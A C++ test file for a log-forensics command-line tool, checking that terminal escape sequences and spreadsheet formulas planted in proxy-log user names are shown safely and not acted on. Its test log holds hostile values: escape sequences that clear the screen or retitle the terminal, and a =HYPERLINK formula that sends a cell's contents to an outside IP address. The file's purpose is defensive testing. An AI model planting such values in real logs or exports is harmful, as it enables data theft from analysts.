// What the commands print when the logs are hostile: user and host names carrying terminal escape
// sequences and spreadsheet formulas, as an intruder can plant them in proxy logs. The built
// command is run as a responder would run it.
#include <gtest/gtest.h>

#include <fstream>
#include <string>

#include "test_support.h"

namespace ashiato::test {
namespace {

namespace fs = std::filesystem;

const char kEsc = '\x1b';

// A Squid access log with three requests from 10.0.0.5 to the C2, under two hostile user names.
fs::path hostile_case(const fs::path& dir) {
  std::ofstream log(dir / "access.log", std::ios::binary);
  const std::string users[] = {"adm\x1b[2J\x1b[Hin", "=HYPERLINK(\"http://198.51.100.9/?\"&A1,\"x\")",
                               "adm\x1b]0;owned\x07in"};
  long t = 1433120400;
  for (const std::string& user : users) {
    log << t++ << ".000    120 10.0.0.5 TCP_MISS/200 5120 GET http://evil.example/gate.php " << user
        << " DIRECT/203.0.113.7 text/html\n";
  }
  std::ofstream(dir / "ioc.txt") << "evil.example\n";
  return dir;
}

// The folder in single quotes for the shell (appended: GCC 12's -Wrestrict misfires on "'" + s).
std::string quoted(const fs::path& dir) {
  std::string q(1, '\'');
  q.append(dir.string()).push_back('\'');
  return q;
}

std::string run(const std::string& arguments, int expected_status = 0) {
  std::string out;
  EXPECT_EQ(run_command(std::string(ASHIATO_BINARY) + " " + arguments + " 2>&1", out), expected_status)
      << arguments << "\n"
      << out;
  return out;
}

TEST(HostileOutput, ControlCharactersInUserNamesAreShownNotObeyed) {
  const fs::path dir = hostile_case(temp_dir());
  const std::string d = quoted(dir);
  const std::string sweep = run("sweep --no-default-rules --ioc " + d + "/ioc.txt " + d + "/access.log");
  EXPECT_EQ(sweep.find(kEsc), std::string::npos) << sweep;
  EXPECT_NE(sweep.find("adm\\x1b[2J\\x1b[Hin"), std::string::npos) << sweep;

  const std::string investigate =
      run("investigate --lang en --case " + d + "/case --ioc " + d + "/ioc.txt " + d + "/access.log");
  EXPECT_EQ(investigate.find(kEsc), std::string::npos) << investigate;
  EXPECT_NE(investigate.find("\\x1b]0;owned\\x07"), std::string::npos) << investigate;
  const std::string hosts = run("case hosts --case " + d + "/case");
  EXPECT_EQ(hosts.find(kEsc), std::string::npos) << hosts;
  EXPECT_NE(hosts.find("10.0.0.5"), std::string::npos) << hosts;
}

TEST(HostileOutput, CsvNeutralisesFormulasUnlessRawIsAsked) {
  const fs::path dir = hostile_case(temp_dir());
  const std::string d = quoted(dir);
  run("sweep -q --no-default-rules --no-summary -f csv -o " + d + "/hits.csv --ioc " + d + "/ioc.txt " + d +
      "/access.log");
  const std::string safe = read_file(dir / "hits.csv");
  EXPECT_NE(safe.find("\"'=HYPERLINK(\"\"http://198.51.100.9/?\"\"&A1,\"\"x\"\")\""), std::string::npos) << safe;
  run("sweep -q --no-default-rules --no-summary --csv-raw -f csv -o " + d + "/raw.csv --ioc " + d + "/ioc.txt " + d +
      "/access.log");
  const std::string raw = read_file(dir / "raw.csv");
  EXPECT_NE(raw.find(",\"=HYPERLINK(\"\"http://198.51.100.9/?\"\"&A1,\"\"x\"\")\","), std::string::npos) << raw;
  EXPECT_EQ(raw.find("'=HYPERLINK"), std::string::npos) << raw;
}

// A report cut short by a full disk once stayed as report.html (172 KB of 560 KB, looking whole).
// A file size limit fails the write the same way: the complete report of the last run must stay.
TEST(HostileOutput, AReportThatCannotBeWrittenWholeLeavesTheLastOne) {
  const fs::path dir = hostile_case(temp_dir());
  const std::string d = quoted(dir);
  run("investigate -q --lang en --case " + d + "/case --ioc " + d + "/ioc.txt " + d + "/access.log");
  const std::string before = read_file(dir / "case" / "report.html");
  ASSERT_GT(before.size(), 300U * 1024) << "the report must be larger than the limit below";
  std::string command = "bash -c \"ulimit -f 300; ";  // 300 KB per file
  command.append(ASHIATO_BINARY).append(" investigate -q --lang en --case ").append(d).append("/case --ioc ");
  command.append(d).append("/ioc.txt ").append(d).append("/access.log\" 2>&1");
  std::string out;
  const int status = run_command(command, out);
  EXPECT_NE(status, 0) << out;
  EXPECT_EQ(read_file(dir / "case" / "report.html"), before);
  // The killed run's temporary file is removed by the next run that completes.
  run("investigate -q --lang en --case " + d + "/case --ioc " + d + "/ioc.txt " + d + "/access.log");
  for (const auto& entry : fs::directory_iterator(dir / "case")) {
    EXPECT_EQ(entry.path().filename().string().find(".partial-"), std::string::npos) << entry.path();
  }
}

}  // namespace
}  // namespace ashiato::test
